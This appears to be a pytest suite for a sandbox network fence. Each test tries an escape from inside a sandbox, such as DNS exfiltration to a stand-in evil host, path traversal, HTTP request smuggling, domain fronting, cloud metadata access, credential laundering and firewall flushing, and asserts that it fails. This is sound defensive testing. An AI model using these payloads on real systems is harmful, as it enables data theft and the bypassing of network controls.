"""The bypass suite: each test is an attempt to get out of a fenced sandbox, made
from inside a real sandbox, that must fail, next to a control that must succeed.

Policy for most tests: api.example.test and other.example.test allowed,
files.example.test allowed for GET /public/** only; the secret TOKEN is bound to
api.example.test. Upstreams are real TLS servers on the host's loopback.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from fence_servers import RawListener, py, run

from corral.security.audit import AuditLog
from corral.security.daemon import DaemonClient

RULES = """
- {host: api.example.test, decision: allow}
- {host: other.example.test, decision: allow}
- {host: files.example.test, methods: [GET], paths: ["/public/**"], decision: allow}
"""
REAL = "real-secret-value-0123456789-abcdefXYZ"
SECRETS = """
secrets:
  TOKEN: {source: "env:CORRAL_TEST_TOKEN", hosts: [api.example.test]}
"""


def _home() -> Path:
    from corral.compute.context import get_context

    return get_context().home


@pytest.fixture
def sbx(write_policy, fenced, monkeypatch):
    monkeypatch.setenv("CORRAL_TEST_TOKEN", REAL)
    return fenced(write_policy(RULES, extra=SECRETS))


def _audit(sandbox_id: str, event: str, timeout: float = 5.0) -> list:
    log = AuditLog.for_home(_home())
    deadline = time.monotonic() + timeout
    while True:
        found = [r for r in log.records() if r.sandbox == sandbox_id and r.event == event]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


#: python code that reads one whole HTTP response from socket ``s`` into ``resp``
READ_RESPONSE = """
def read_response(s):
    data = b""
    while b"\\r\\n\\r\\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\\r\\n\\r\\n")
    n = 0
    for line in head.split(b"\\r\\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            n = int(v)
    while len(body) < n:
        chunk = s.recv(4096)
        if not chunk:
            break
        body += chunk
    return head + b"\\r\\n\\r\\n" + body
"""


def _status(r) -> str:
    return r.stdout.strip().rsplit("\n", 1)[-1]


# -- DNS ---------------------------------------------------------------------------


def test_dns_exfiltration(sbx):
    r = py(sbx, """
        import socket, struct
        for name in ["api.example.test", "c2VjcmV0LXZhbHVl.exfil.evil.test"]:
            try:
                print(name, socket.gethostbyname(name))
            except socket.gaierror:
                print(name, "NXDOMAIN")
        q = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\\x04leak\\x04evil\\x04test\\x00" \\
            + struct.pack("!HH", 1, 1)
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            u.sendto(q, ("8.8.8.8", 53))
            print("udp sent")
        except OSError as e:
            print("udp errno", e.errno)
        t = socket.create_connection(("8.8.8.8", 53), timeout=15)
        t.sendall(struct.pack("!H", len(q)) + q)
        try:
            print("tcp answer", t.recv(100))
        except ConnectionResetError:
            print("tcp answer", b"")
    """)
    lines = r.stdout.splitlines()
    assert len(lines) == 4, r.stdout + r.stderr
    assert lines[0].startswith("api.example.test 198.18.")  # control
    assert lines[1].endswith("NXDOMAIN")
    assert lines[2] == "udp errno 1"  # EPERM: nothing but TCP leaves the namespace
    assert lines[3] == "tcp answer b''"  # DNS over TCP is not HTTP: closed by the proxy
    names = [rec.details["name"] for rec in _audit(sbx.id, "dns.query")]
    assert "c2vjcmv0lxzhbhvl.exfil.evil.test" in names  # every query is logged


# -- tools that ignore the proxy -------------------------------------------------------


def test_tool_ignoring_proxy_variables_is_caught_by_transparent_mode(sbx, tls_upstream):
    # control: no proxy variables, still served (and decided) through the proxy
    r = run(sbx, "env -u https_proxy -u HTTPS_PROXY curl -sS --noproxy '*' "
                 "https://api.example.test/transparent-ok")
    assert json.loads(r.stdout)["target"] == "/transparent-ok", r.stderr
    # the policy still applies
    r = run(sbx, "curl -sS --noproxy '*' -w '\\n%{http_code}' "
                 "https://files.example.test/private")
    assert _status(r) == "403"
    assert not tls_upstream.seen("/private")
    # a name the policy does not allow has no address at all
    r = run(sbx, "curl -sS --noproxy '*' https://evil.test/")
    assert r.exit_code == 6 and "resolve" in r.stderr


def test_without_transparent_mode_a_proxy_ignoring_tool_has_no_route(write_policy, fenced):
    sbx = fenced(write_policy(RULES), transparent=False)
    assert run(sbx, "curl -sS -f -o /dev/null https://api.example.test/x").exit_code == 0
    r = run(sbx, "curl -sS --noproxy '*' --connect-timeout 5 https://api.example.test/x")
    assert r.exit_code == 7, r.stderr  # could not connect: there is no route


def test_direct_ip_connect(sbx, tls_upstream, plain_upstream):
    # TLS to a bare address: the proxy answers (its CA) and the policy has no rule for it
    r = run(sbx, "curl -sS --noproxy '*' -w '\\n%{http_code}' https://203.0.113.7/direct-ip")
    assert _status(r) == "403", r.stdout + r.stderr
    # plain HTTP to an address while naming an allowed host: the Host must match
    r = py(sbx, """
        import socket
        s = socket.create_connection(("203.0.113.7", 80), timeout=10)
        s.sendall(b"GET /direct-ip-2 HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n")
        print(read_response(s).decode())
    """, prelude=READ_RESPONSE)
    assert r.stdout.startswith("HTTP/1.1 403"), r.stdout + r.stderr
    assert "domain fronting" in r.stdout
    assert not tls_upstream.seen("/direct-ip") and not plain_upstream.seen("/direct-ip")
    # control: the same through the name works
    r = run(sbx, "curl -sS --noproxy '*' http://api.example.test/direct-ok")
    assert json.loads(r.stdout)["target"] == "/direct-ok"


def test_ipv6(sbx):
    r = py(sbx, """
        import socket
        for kind, addr in [("tcp", ("2001:db8::1", 443)), ("tcp", ("2606:4700::1", 80))]:
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(5)
            try:
                s.connect(addr)
                print("connected")
            except OSError as e:
                print("errno", e.errno)
        u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        try:
            u.sendto(b"x", ("2001:db8::1", 53))
            print("sent")
        except OSError as e:
            print("errno", e.errno)
        print(socket.getaddrinfo("api.example.test", 443, socket.AF_INET6)
              if False else "ok")
    """)
    lines = r.stdout.splitlines()
    assert lines[0] == "errno 101", r.stdout + r.stderr  # ENETUNREACH: no IPv6 route
    assert lines[1] in ("errno 101", "errno 1")
    assert lines[2] in ("errno 101", "errno 1")
    # control: IPv4 through the proxy works; the stub gives no AAAA records
    r = run(sbx, "curl -sS -o /dev/null -w '%{http_code}\\n' https://api.example.test/v4; "
                 "getent ahostsv6 api.example.test | grep -c : ; true")
    assert r.stdout.splitlines()[0] == "200"


def test_udp_and_quic(sbx):
    r = py(sbx, """
        import socket
        synthetic = socket.gethostbyname("api.example.test")
        for addr in [("203.0.113.7", 443), (synthetic, 443), ("203.0.113.7", 123)]:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                u.sendto(b"\\xc0" + b"\\x00" * 1200, addr)  # a QUIC-ish initial packet
                print("sent")
            except OSError as e:
                print("errno", e.errno)
        # control: UDP to the DNS stub on loopback is answered
        import struct
        q = struct.pack("!6H", 9, 0x0100, 1, 0, 0, 0) + b"\\x03api\\x07example\\x04test\\x00" \\
            + struct.pack("!HH", 1, 1)
        d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        d.settimeout(5)
        d.sendto(q, ("127.0.0.1", 53))
        print("stub", len(d.recv(512)) > 12)
    """)
    assert r.stdout.splitlines() == ["errno 1", "errno 1", "errno 1", "stub True"], \
        r.stdout + r.stderr


@pytest.mark.parametrize("user", ["agent", "root"])
def test_raw_sockets(sbx, user):
    r = py(sbx, """
        import socket
        tries = [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                 (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
                 (socket.AF_PACKET, socket.SOCK_RAW, 0),
                 (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)]
        for fam, kind, proto in tries:
            try:
                socket.socket(fam, kind, proto)
                print("made")
            except OSError as e:
                print("errno", e.errno)
    """, user=user)
    assert all(ln in ("errno 1", "errno 13") for ln in r.stdout.splitlines()), r.stdout
    assert len(r.stdout.splitlines()) == 4, r.stderr
    # control: ordinary TCP through the proxy works for this user
    r = run(sbx, "curl -sS -o /dev/null -w '%{http_code}' https://api.example.test/raw-ok",
            user=user)
    assert r.stdout == "200"


def test_rebinding_to_loopback_or_metadata(write_policy, fenced, plain_upstream):
    """Even a policy that allows every name cannot reach loopback, link-local or
    private addresses unless a rule names the address."""
    path = write_policy('- {host: "*", decision: allow}')
    sbx = fenced(path)
    port = plain_upstream.port
    proxy = "-x http://127.0.0.1:3128 --noproxy ''"
    for url in [f"http://localhost:{port}/rebind", f"http://127.0.0.1:{port}/rebind",
                "http://169.254.169.254/latest/meta-data/", f"http://[::1]:{port}/rebind",
                f"http://[::ffff:127.0.0.1]:{port}/rebind", "http://10.0.0.1/rebind"]:
        r = run(sbx, f"curl -sS {proxy} -w '\\n%{{http_code}}' '{url}'")
        assert _status(r) == "403", (url, r.stdout, r.stderr)
        assert "address" in r.stdout
    assert not plain_upstream.seen("/rebind")
    # control: a rule naming the address lets that host reach it
    write_policy(f'- {{host: localhost, port: {port}, addresses: ["127.0.0.1"], '
                 'decision: allow}', path=path)
    time.sleep(1.0)
    r = run(sbx, f"curl -sS {proxy} http://localhost:{port}/rebind-named")
    assert json.loads(r.stdout)["target"] == "/rebind-named", r.stderr


def test_domain_fronting(sbx, tls_upstream):
    # Host header names another allowed host than the TLS connection
    r = run(sbx, "curl -sS -H 'Host: other.example.test' -w '\\n%{http_code}' "
                 "https://api.example.test/front-1")
    assert _status(r) == "403" and "fronting" in r.stdout
    # CONNECT to one host, SNI of another
    r = py(sbx, """
        import socket, ssl
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(b"CONNECT other.example.test:443 HTTP/1.1\\r\\nHost: other.example.test:443"
                  b"\\r\\n\\r\\n")
        assert s.recv(4096).startswith(b"HTTP/1.1 200")
        ctx = ssl.create_default_context()
        t = ctx.wrap_socket(s, server_hostname="api.example.test")
        t.sendall(b"GET /front-2 HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n")
        print(read_response(t).decode())
    """, prelude=READ_RESPONSE)
    assert r.stdout.startswith("HTTP/1.1 403"), r.stdout + r.stderr
    assert "SNI" in r.stdout
    # transparent: connect to one name's address with another name's SNI
    r = py(sbx, """
        import socket, ssl
        addr = socket.gethostbyname("other.example.test")
        s = socket.create_connection((addr, 443), timeout=10)
        t = ssl.create_default_context().wrap_socket(s, server_hostname="api.example.test")
        t.sendall(b"GET /front-3 HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n")
        print(read_response(t).decode())
    """, prelude=READ_RESPONSE)
    assert r.stdout.startswith("HTTP/1.1 403"), r.stdout + r.stderr
    assert not tls_upstream.seen("/front-")
    # control
    r = run(sbx, "curl -sS https://other.example.test/front-ok")
    assert json.loads(r.stdout)["headers"]["host"] == "other.example.test"


@pytest.mark.parametrize("path", [
    "/public/../secret", "/public/%2e%2e/secret", "/public/%2E%2E/secret", "//secret",
    "/public/..;/secret", "/public;x/../../secret", "/public%2F..%2Fsecret",
    "/public/%252e%252e/secret", "/public/..%5Csecret", "/public/..\\\\secret",
    "/public/%2e%2e%2fsecret", "/public/.%2e/secret",
])
def test_path_tricks(sbx, tls_upstream, path):
    r = run(sbx, f"curl -sS --path-as-is -w '\\n%{{http_code}}' "
                 f"'https://files.example.test{path}'")
    assert _status(r) in ("403", "400"), (path, r.stdout, r.stderr)
    assert not any("secret" in s.target for s in tls_upstream.requests)


def test_path_control_forwards_exactly_the_checked_path(sbx, tls_upstream):
    r = run(sbx, "curl -sS --path-as-is 'https://files.example.test/public//a/./b%2Dc?q=%41'")
    assert r.exit_code == 0, r.stderr
    seen = tls_upstream.seen("/public/a")
    assert [s.target for s in seen] == ["/public/a/b-c?q=%41"]


SMUGGLES = [
    b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
    b"Content-Length: 4\r\nContent-Length: 7\r\n\r\nabcdefg",
    b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"Content-Length: +4\r\n\r\nabcd",
    b"Transfer-Encoding:\tchunked, identity\r\n\r\n0\r\n\r\n",
]


@pytest.mark.parametrize("tls", [False, True])
def test_request_smuggling(sbx, tls_upstream, plain_upstream, tls):
    r = py(sbx, f"""
        import socket, ssl
        smuggles = {SMUGGLES!r}
        for i, tail in enumerate(smuggles):
            s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
            if {tls}:
                s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
                assert s.recv(4096).startswith(b"HTTP/1.1 200")
                s = ssl.create_default_context().wrap_socket(
                    s, server_hostname="api.example.test")
                target = b"/smuggle-%d" % i
            else:
                target = b"http://api.example.test/smuggle-%d" % i
            s.sendall(b"POST " + target + b" HTTP/1.1\\r\\nHost: api.example.test\\r\\n" + tail
                      + b"GET /smuggled HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n")
            print(s.recv(4096).split(b"\\r\\n")[0].decode())
        # control: an honest POST on a fresh connection
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(b"POST http://api.example.test/honest HTTP/1.1\\r\\nHost: api.example.test"
                  b"\\r\\nContent-Length: 4\\r\\n\\r\\nbody")
        print(s.recv(4096).split(b"\\r\\n")[0].decode())
    """)
    lines = r.stdout.splitlines()
    assert len(lines) == len(SMUGGLES) + 1, r.stderr
    for line in lines[:-1]:
        assert line.split()[1] in ("400", "403"), lines
    assert lines[-1].startswith("HTTP/1.1 200")
    for up in (tls_upstream, plain_upstream):
        assert not up.seen("/smuggle") and not up.seen("/smuggled")
    assert plain_upstream.seen("/honest")[-1].body == b"body"


def test_credential_laundering(sbx, tls_upstream):
    env = run(sbx, "echo $TOKEN").stdout.strip()
    assert env.startswith("corral_") and REAL not in env and len(env) == len(REAL)
    # the real value is nowhere inside: environment, files, process arguments
    r = run(sbx, "grep -rlF -f /dev/stdin /etc /tmp /home /workspace /proc/[0-9]*/environ "
                 "/proc/[0-9]*/cmdline 2>/dev/null; true", stdin=REAL.encode())
    assert r.stdout.strip() == ""
    # control: the bound host gets the real value; its echo comes back scrubbed
    r = run(sbx, 'curl -sS -H "Authorization: Bearer $TOKEN" -H "X-Token: $TOKEN" '
                 '"https://api.example.test/bound?t=$TOKEN"')
    assert REAL not in r.stdout and env in r.stdout, r.stdout
    got = tls_upstream.seen("/bound")[-1]
    assert got.headers["authorization"] == f"Bearer {REAL}"
    assert got.target == f"/bound?t={REAL}"
    assert _audit(sbx.id, "secret.injected")
    # the sentinel to another allowed host: blocked, in a header, the query, Basic
    for cmd in ['curl -sS -w "\\n%{http_code}" -H "Authorization: Bearer $TOKEN" '
                'https://other.example.test/launder-1',
                'curl -sS -w "\\n%{http_code}" "https://other.example.test/launder-2?k=$TOKEN"',
                'curl -sS -w "\\n%{http_code}" -u "me:$TOKEN" https://other.example.test/launder-3',
                'curl -sS -w "\\n%{http_code}" --noproxy "*" -H "X: $TOKEN" '
                'https://other.example.test/launder-4']:
        r = run(sbx, cmd)
        assert _status(r) == "403", (cmd, r.stdout)
        assert "TOKEN" in r.stdout
    assert not tls_upstream.seen("/launder")
    blocked = _audit(sbx.id, "secret.exfiltration_blocked")
    assert blocked and blocked[0].details["secret"] == "TOKEN"
    assert all(REAL not in json.dumps(rec.details) for rec in
               AuditLog.for_home(_home()).records())
    # an echo endpoint cannot launder the real value back, nor can TRACE
    r = run(sbx, 'curl -sS -H "Authorization: Bearer $TOKEN" --data-binary @- '
                 'https://api.example.test/reflect', stdin=f"x {REAL} y".encode())
    assert REAL not in r.stdout and env in r.stdout
    r = run(sbx, 'curl -sS -X TRACE -H "Authorization: Bearer $TOKEN" '
                 '-w "\\n%{http_code}" https://api.example.test/trace')
    assert _status(r) == "403"
    assert not tls_upstream.seen("/trace")


def test_non_http_over_connect(write_policy, fenced):
    raw = RawListener()
    try:
        path = write_policy('- {host: "*.example.test", decision: allow}',
                            resolve={"ssh.example.test:22": f"127.0.0.1:{raw.port}"})
        sbx = fenced(path)
        r = py(sbx, """
            import socket
            s = socket.create_connection(("127.0.0.1", 3128), timeout=15)
            s.sendall(b"CONNECT ssh.example.test:22 HTTP/1.1\\r\\nHost: ssh.example.test:22"
                      b"\\r\\n\\r\\n")
            print(s.recv(4096).split(b"\\r\\n")[0].decode())
            s.sendall(b"SSH-2.0-OpenSSH_9.2p1\\r\\n")
            print("after banner", s.recv(4096))
            # transparent: straight to the name's address on port 22
            t = socket.create_connection((socket.gethostbyname("ssh.example.test"), 22),
                                         timeout=15)
            t.sendall(b"SSH-2.0-OpenSSH_9.2p1\\r\\n")
            try:
                print("transparent", t.recv(4096).split(b"\\r\\n")[0])
            except ConnectionResetError:
                print("transparent", b"")
        """)
        lines = r.stdout.splitlines()
        assert len(lines) == 3, r.stdout + r.stderr
        assert lines[0] == "HTTP/1.1 200 Connection established"
        assert lines[1] == "after banner b''"
        assert lines[2] in ("transparent b''", "transparent b'HTTP/1.1 400 Bad Request'")
        assert raw.accepted == 0  # nothing reached the ssh port
        # control: HTTPS over CONNECT to an allowed name works
        assert run(sbx, "curl -sS -f -o /dev/null https://api.example.test/").exit_code == 0
    finally:
        raw.close()


# -- the proxy itself --------------------------------------------------------------------


def test_proc_shows_no_host_process(sbx):
    pid = DaemonClient(_home()).ping()["pid"]  # type: ignore[index]
    r = run(sbx, "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done")
    assert "corral.security.daemon" not in r.stdout
    assert "sleep infinity" in r.stdout  # control: the sandbox sees its own processes
    r = run(sbx, f"kill -9 {pid}; echo rc=$?")
    assert "rc=1" in r.stdout
    assert DaemonClient(_home()).ping() is not None


@pytest.mark.parametrize("user", ["agent", "root"])
def test_cannot_kill_or_replace_the_proxy(sbx, user):
    r = py(sbx, """
        import socket
        for fam, kind, addr in [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 3128)),
                                (socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 3128)),
                                (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 3129)),
                                (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53))]:
            s = socket.socket(fam, kind)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                s.bind(addr)
                print("bound")
            except OSError as e:
                print("errno", e.errno)
    """, user=user)
    assert r.stdout.splitlines()[:3] == ["errno 98"] * 3, r.stdout + r.stderr  # EADDRINUSE
    assert r.stdout.splitlines()[3] in ("errno 13", "errno 98")
    r = run(sbx, "nft flush ruleset; echo nft=$?; ip route del default; echo ip=$?; "
                 "ip link set lo down; echo lo=$?", user=user)
    assert "nft=0" not in r.stdout and "ip=0" not in r.stdout and "lo=0" not in r.stdout
    # control: the proxy still serves, the transparent rules are still there
    r = run(sbx, "curl -sS -o /dev/null -w '%{http_code} ' https://api.example.test/alive; "
                 "curl -sS --noproxy '*' -o /dev/null -w '%{http_code}' "
                 "https://api.example.test/alive", user=user)
    assert r.stdout == "200 200", r.stderr
